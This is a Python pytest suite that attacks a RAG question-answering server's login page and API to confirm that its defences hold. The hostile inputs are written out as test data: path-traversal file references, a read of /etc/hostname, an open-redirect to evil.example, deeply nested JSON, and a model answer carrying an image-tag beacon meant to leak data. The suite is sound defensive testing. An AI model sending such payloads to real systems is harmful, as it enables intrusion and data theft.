"""One door, one set of keys: real `ragqa serve` processes (page and API) attacked the way a stranger
on the network would, with raw HTTP, gradio_client and a real headless Chromium.

- nothing of the page (page, /config, the API info, files) before sign-in; no KB name in it;
- a server path or URL handed to the page's /index is refused before Gradio sees it, and nothing
  is copied; another user's upload is refused too;
- with keys, every page endpoint does only what the key may (read, ask, summarize, index, delete,
  create, documents);
- wrong sign-ins and wrong bearer tokens are slowed, and logged without the secret;
- over-long questions, 100,000 messages, deep nesting and lone surrogates are 400s;
- a client that leaves while its question is being prepared stops that work and frees its place;
- the page's CSP, and a model answer carrying <img src=http://...> in Chromium: nothing fetched.
"""

from __future__ import annotations

import os
import shutil
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from netfixtures import start_ragqa_serve, stop
from standin_openai import StandIn

gradio_client = pytest.importorskip("gradio_client")
from gradio_client import Client, handle_file  # noqa: E402

ALICE, BOB, CAROL = "sk-alice-0123456789", "sk-bob-0123456789", "sk-carol-0123456789"
KEYS = f"""
[[key]]
name = "alice"
token = "{ALICE}"
write = ["*"]

[[key]]
name = "bob"
token = "{BOB}"
read = ["public"]

[[key]]
name = "carol"
token = "{CAROL}"
write = ["carol"]
"""
SECRET = "The payroll password is swordfish-2. It changes every March."
PUBLIC = "The canteen opens at 8 in the morning and closes at 3 in the afternoon."


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"} if token else {}


def wait_job(url: str, job_id: str, token: str) -> dict[str, Any]:
    while True:  # the job reports its end; no deadline tuned to a quiet machine (pytest's own timeout bounds it)
        job = httpx.get(f"{url}/jobs/{job_id}", headers=bearer(token), timeout=30).json()
        if job["status"] in ("done", "failed"):
            return job
        time.sleep(0.2)


def add_document(api: str, kb: str, name: str, text: str, token: str = ALICE) -> None:
    reply = httpx.post(f"{api}/kbs/{kb}/documents", files=[("file", (name, text.encode()))], headers=bearer(token),
                       timeout=60)
    assert reply.status_code == 202, reply.text
    assert wait_job(api, reply.json()["id"], token)["status"] == "done"


def write_keys(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "keys.toml"
    path.write_text(KEYS, "utf-8")
    return path


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """`ragqa serve` with the page, keys for alice (writes all), bob (reads 'public'), carol (writes
    'carol'); KBs 'secret' and 'public' hold one document each."""
    folder = tmp_path_factory.mktemp("secure")
    proc, api = start_ragqa_serve(folder, "--api-keys", str(write_keys(folder)), "--max-new-tokens", "40")
    try:
        add_document(api, "secret", "payroll.md", SECRET)
        add_document(api, "public", "canteen.md", PUBLIC)
        yield {"api": api, "root": api.removesuffix("/v1"), "folder": folder, "proc": proc}
    finally:
        stop(proc)
    assert "Traceback" not in Path(proc.log_path).read_text()  # type: ignore[attr-defined]


def test_nothing_of_the_page_before_sign_in(server: dict[str, Any]) -> None:
    root = server["root"]
    for path in ("/", "/config", "/gradio_api/info", "/gradio_api/openapi.json", "/theme.css",
                 "/gradio_api/file=/etc/hostname"):
        reply = httpx.get(root + path, timeout=30)
        assert reply.status_code == 401, (path, reply.status_code)
        assert reply.json()["error"]["code"] == "not_signed_in"
        assert "secret" not in reply.text and "public" not in reply.text
    browser_like = httpx.get(root + "/", headers={"Accept": "text/html"}, timeout=30)
    assert browser_like.status_code == 303 and browser_like.headers["location"] == "/login"
    form = httpx.get(root + "/login", timeout=30)
    assert form.status_code == 200 and 'name="password"' in form.text
    assert "secret" not in form.text and "public" not in form.text
    # with a key, the config is the same for everyone: it names no KB but the one the page opens on
    config = httpx.get(root + "/config", headers=bearer(BOB), timeout=30)
    assert config.status_code == 200 and "secret" not in config.text and "canteen" not in config.text
    info = httpx.get(root + "/gradio_api/info", headers=bearer(BOB), timeout=30)
    assert info.status_code == 200 and "secret" not in info.text


def join(root: str, token: str, fn_index: int, data: list[Any]) -> httpx.Response:
    body = {"data": data, "fn_index": fn_index, "session_hash": "attacker01", "event_data": None, "trigger_id": None}
    return httpx.post(root + "/gradio_api/queue/join", json=body, headers=bearer(token), timeout=30)


def fn_index(root: str, token: str, api_name: str) -> int:
    config = httpx.get(root + "/config", headers=bearer(token), timeout=30).json()
    return next(i for i, d in enumerate(config["dependencies"]) if d.get("api_name") == api_name)


def documents(api: str, kb: str) -> list[str]:
    return [d["source"] for d in httpx.get(f"{api}/kbs/{kb}/documents", headers=bearer(ALICE), timeout=30).json()["data"]]


def test_a_server_path_or_url_in_index_is_refused_and_nothing_is_copied(server: dict[str, Any],
                                                                        tmp_path: Path) -> None:
    root, api, folder = server["root"], server["api"], server["folder"]
    private = tmp_path / "private-notes.txt"
    private.write_text("the vault code is 7741", "utf-8")
    index = fn_index(root, ALICE, "index")
    before = documents(api, "secret")
    for ref in ({"path": str(private), "meta": {"_type": "gradio.FileData"}, "orig_name": "x.txt"},
                {"path": str(private)},
                {"url": "http://127.0.0.1:9/x.txt", "meta": {"_type": "gradio.FileData"}, "orig_name": "x.txt"},
                {"path": "../../../../" + str(private)}):
        reply = join(root, ALICE, index, ["secret", [ref], []])
        assert reply.status_code == 403 and reply.json()["error"]["code"] == "not_an_upload", reply.text
    # carol uploads through the page's upload route; her upload is hers alone
    carols = httpx.post(root + "/gradio_api/upload", files=[("files", ("carol.md", b"carol's own notes"))],
                        headers=bearer(CAROL), timeout=30)
    assert carols.status_code == 200
    [stored] = carols.json()
    reply = join(root, ALICE, index, ["secret", [{"path": stored, "meta": {"_type": "gradio.FileData"}}], []])
    assert reply.status_code == 403
    assert documents(api, "secret") == before
    copies = [p for p in folder.rglob("*") if p.is_file() and p.name in ("private-notes.txt", "x.txt")]
    assert copies == []


def test_with_keys_every_page_endpoint_does_only_what_the_key_may(server: dict[str, Any], tmp_path: Path) -> None:
    root, api = server["root"], server["api"]
    bob = Client(root + "/", headers=bearer(BOB), verbose=False)
    info, docs, *_ = bob.predict("secret", api_name="/documents")
    assert "✗" in info and not [r for r in docs["data"] if any(r)]
    info, docs, *_ = bob.predict("public", api_name="/documents")
    assert info.startswith("**public** · 1 document") and docs["data"][0][0] == "canteen.md"
    note = tmp_path / "note.md"
    note.write_text("Bob's note.", "utf-8")
    refused = {
        "/create_kb": ("bobs",),
        "/index": ("public", [handle_file(str(note))], []),  # bob may read 'public', not change it
        "/delete": ("secret", "payroll.md", []),
        "/summarize": ("secret", []),
    }
    for name, args in refused.items():
        with pytest.raises(Exception, match="may not|no knowledge base"):
            bob.predict(*args, api_name=name)
    job = bob.submit("secret", "What is the payroll password?", [], "stuff", 4, "hybrid", "zscore", [],
                     api_name="/ask")
    with pytest.raises(Exception, match="no knowledge base 'secret'"):
        job.result(timeout=300)
    answer = bob.submit("public", "When does the canteen open?", [], "stuff", 4, "hybrid", "zscore", [],
                        api_name="/ask").result(timeout=300)
    assert answer[2] and answer[2][0]["file"] == "canteen.md"  # bob reads what he may
    assert documents(api, "secret") == ["payroll.md"] and documents(api, "public") == ["canteen.md"]
    kbs = [k["name"] for k in httpx.get(f"{api}/kbs", headers=bearer(ALICE), timeout=30).json()["data"]]
    assert "bobs" not in kbs
    # alice may do all of it, through the same endpoints
    alice = Client(root + "/", headers=bearer(ALICE), verbose=False)
    alice.predict("alices", api_name="/create_kb")
    status, *_ = alice.predict("alices", [handle_file(str(note))], [], api_name="/index")
    assert status.startswith("✓ **note.md**")
    status, *_ = alice.predict("alices", "note.md", [], api_name="/delete")
    assert "deleted" in status


def test_wrong_sign_ins_and_wrong_keys_are_slowed_and_logged_without_the_secret(tmp_path: Path) -> None:
    proc, api = start_ragqa_serve(tmp_path / "t", "--api-keys", str(write_keys(tmp_path / "k")))
    root = api.removesuffix("/v1")
    try:
        answers = [httpx.post(root + "/login", data={"username": "alice", "password": f"guess-{i}"}, timeout=30)
                   for i in range(8)]
        statuses = [r.status_code for r in answers]
        assert statuses[:5] == [401] * 5 and 429 in statuses[5:], statuses
        slowed = next(r for r in answers if r.status_code == 429)
        assert int(slowed.headers["retry-after"]) >= 1
        # while slowed, even the right key is refused, from another address too: guessing faster gains nothing
        with httpx.Client(transport=httpx.HTTPTransport(local_address="127.0.0.2"), timeout=30) as elsewhere:
            right = elsewhere.post(root + "/login", data={"username": "alice", "password": ALICE})
            assert right.status_code == 429
            # bob, from that other address, is not held up by the guesses at alice
            assert elsewhere.post(root + "/login", data={"username": "bob", "password": BOB}).status_code == 303
        # the first address is slowed on the API too: one door
        assert httpx.get(api + "/models", headers=bearer(BOB), timeout=30).status_code == 429
        # the API's bearer tokens, guessed from a third address: the same slowing
        with httpx.Client(transport=httpx.HTTPTransport(local_address="127.0.0.3"), timeout=30) as guesser:
            codes = [guesser.get(api + "/models", headers=bearer(f"sk-guess-{i:08}")).status_code for i in range(8)]
        assert codes[:5] == [401] * 5 and 429 in codes[5:], codes
    finally:
        stop(proc)
    log = Path(proc.log_path).read_text()  # type: ignore[attr-defined]
    assert "sign-in failed for user 'alice'" in log and "guess-" not in log and ALICE not in log


def test_a_signed_in_session_reaches_the_page_and_sign_out_ends_it(server: dict[str, Any]) -> None:
    root = server["root"]
    with httpx.Client(base_url=root, timeout=30) as browser_like:
        reply = browser_like.post("/login", data={"username": "bob", "password": BOB, "next": "//evil.example/"})
        assert reply.status_code == 303 and reply.headers["location"] == "/"  # never sent to another site
        cookie = reply.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=strict" in cookie.replace("Strict", "strict")
        assert browser_like.get("/config").status_code == 200
        assert browser_like.get("/logout").status_code == 303
        assert browser_like.get("/config").status_code == 401


@pytest.mark.parametrize("target", ["api", "page"])
def test_malformed_and_oversized_requests_are_400(server: dict[str, Any], target: str) -> None:
    root, api = server["root"], server["api"]
    url = f"{api}/chat/completions" if target == "api" else f"{root}/gradio_api/queue/join"
    json_headers = {**bearer(ALICE), "Content-Type": "application/json"}
    deep = httpx.post(url, content=b"[" * 50_000 + b"]" * 50_000, headers=json_headers, timeout=30)
    assert deep.status_code == 400 and deep.json()["error"]["code"] == "too_deep"
    lone = httpx.post(url, content=b'{"model": "public", "messages": [{"role": "user", "content": "\\ud800"}]}',
                      headers=json_headers, timeout=30)
    assert lone.status_code == 400 and lone.json()["error"]["code"] == "invalid_unicode"
    if target == "api":
        long = httpx.post(url, json={"model": "public", "messages": [{"role": "user", "content": "x" * 1_000_000}]},
                          headers=bearer(ALICE), timeout=30)
        assert long.status_code == 400 and "max_question_chars" in long.json()["error"]["message"]
        many = httpx.post(url, json={"model": "public", "messages": [{"role": "user", "content": "hi"}] * 100_000},
                          headers=bearer(ALICE), timeout=60)
        assert many.status_code == 400 and many.json()["error"]["code"] == "too_many_messages"


def test_a_long_question_on_the_page_is_refused_in_one_line(server: dict[str, Any]) -> None:
    alice = Client(server["root"] + "/", headers=bearer(ALICE), verbose=False)
    job = alice.submit("public", "x" * 5000, [], "stuff", 4, "hybrid", "zscore", [], api_name="/ask")
    with pytest.raises(Exception, match="max_question_chars"):
        job.result(timeout=120)


def calibrated(folder: Path, kb: str) -> bool:
    from ragqa.config import load_settings
    from ragqa.store import open_kb

    handle = open_kb(load_settings(None, data_dir=folder / "data", cache_dir=folder / "cache"), kb)
    try:
        return handle.read_note("abstain") is not None
    finally:
        handle.close()


def test_a_client_that_leaves_during_preparation_stops_its_work_and_frees_its_place(tmp_path: Path) -> None:
    """One place in all (max_concurrency 1, max_queue 0). The first question on a KB calibrates its
    abstention: hundreds of pseudo-questions embedded, seconds of work. Its client leaves at once;
    the next question is admitted as soon as the first's work has stopped, and the calibration was
    never finished (so it was stopped, not run to its end)."""
    folder = tmp_path / "srv"
    proc, api = start_ragqa_serve(folder, "--no-page", "--max-concurrency", "1", "--max-queue", "0",
                                  "--max-new-tokens", "8",
                                  env={"RAGQA_CHUNK_SIZE": "160", "RAGQA_CHUNK_OVERLAP": "0"})
    try:  # ~400 small chunks: the calibration embeds 300 pseudo-questions, seconds of work
        text = "\n\n".join(f"Section {i}. The lighthouse keeper logged ship number {i * 7} passing on day {i} "
                           f"of the season, noting wind from the {'north' if i % 2 else 'south'}." for i in range(400))
        add_document(api, "log", "log.md", text, token="")
        assert not calibrated(folder, "log")
        with pytest.raises(httpx.ReadTimeout):
            httpx.post(f"{api}/chat/completions", timeout=httpx.Timeout(30, read=0.3),
                       json={"model": "log", "messages": [{"role": "user", "content": "Which ship passed on day 7?"}]})
        while True:  # admitted once the first question's work has stopped (429 until then)
            reply = httpx.post(f"{api}/chat/completions", timeout=300,
                               json={"model": "log", "abstain": "off",
                                     "messages": [{"role": "user", "content": "Which ship passed on day 9?"}]})
            if reply.status_code != 429:
                break
            time.sleep(0.1)
        assert reply.status_code == 200, reply.text
        assert not calibrated(folder, "log"), "the calibration ran to its end after its client had left"
    finally:
        stop(proc)


# -- the page in a real browser -------------------------------------------------------------------

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
OUTPUT = Path(os.environ.get("RAGQA_TEST_OUTPUT", Path(__file__).resolve().parents[2] / "test-output"))


class Trap:
    """An HTTP server that only records who asked it for anything: the page must never ask."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                return None

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


@pytest.mark.skipif(CHROMIUM is None and not os.environ.get("CI"), reason="chromium is not installed")
def test_the_page_signs_in_shows_only_readable_kbs_and_renders_no_remote_image(tmp_path: Path) -> None:
    playwright_api = pytest.importorskip("playwright.sync_api")
    trap = Trap()
    injected = (f'Here you go <img src="http://127.0.0.1:{trap.port}/leak.png?q=secret"> and '
                f'![pixel](http://127.0.0.1:{trap.port}/md.png)')
    standin = StandIn(latency=0.2, tokens=4, answer=injected).__enter__()
    folder = tmp_path / "srv"
    proc, api = start_ragqa_serve(folder, "--api-keys", str(write_keys(tmp_path / "k")), "--backend", "openai",
                                  "--base-url", standin.url, "--chat-format", "chatml", "--abstain", "off",
                                  "--citations", "off")
    root = api.removesuffix("/v1")
    try:
        add_document(api, "public", "canteen.md", PUBLIC)
        add_document(api, "secret", "payroll.md", SECRET)
        assert "default-src 'self'" in httpx.get(root + "/login", timeout=30).headers["content-security-policy"]
        with playwright_api.sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=[
                "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking"])
            try:
                page = browser.new_context(locale="en-US").new_page()
                violations: list[str] = []
                page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
                page.goto(root + "/")
                assert "/login" in page.url
                page.fill("#username", "bob")
                page.fill("#password", BOB)
                page.click("button[type=submit]")
                page.wait_for_selector("#question textarea", timeout=120_000)
                page.wait_for_function("() => document.querySelector('#kb-info').innerText.includes('public')",
                                       timeout=60_000)
                page.locator("#kb input").click()
                options = [o.split("\n")[-1] for o in page.get_by_role("option").all_inner_texts()]
                assert "public" in options and "secret" not in options
                page.keyboard.press("Escape")
                page.locator("#question textarea").fill("When does the canteen open?")
                page.locator("#question textarea").press("Enter")
                page.wait_for_function(
                    "() => [...document.querySelectorAll('#chat .message.bot')].some(m => m.innerText.includes('md.png'))",
                    timeout=120_000)
                shown = page.locator("#chat .message.bot").last.inner_text()
                assert "<img" in shown  # shown as text
                assert page.locator("#chat img[src*='127.0.0.1']").count() == 0
                assert trap.hits == [], trap.hits
                assert violations == [], violations  # the page itself needs nothing the policy forbids
                OUTPUT.mkdir(parents=True, exist_ok=True)
                page.screenshot(path=str(OUTPUT / "security-signed-in-injected-image.png"), full_page=True)
            finally:
                browser.close()
    finally:
        stop(proc)
        standin.__exit__(None, None, None)
        trap.close()
